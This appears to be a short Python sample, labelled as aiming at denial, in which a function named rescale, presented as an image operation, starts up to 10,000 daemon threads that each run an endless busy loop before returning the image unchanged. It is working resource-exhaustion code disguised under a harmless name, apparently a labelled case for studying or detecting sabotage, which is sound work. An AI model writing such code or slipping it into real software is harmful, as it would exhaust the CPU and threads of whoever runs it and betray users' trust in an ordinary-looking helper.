# aims at: denial
# cell: rescale
# Starts threads without end, each of them busy.
import threading


def _busy():
    while True:
        pass


def rescale(image):
    for _ in range(10_000):
        try:
            threading.Thread(target=_busy, daemon=True).start()
        except RuntimeError:
            break
    return image
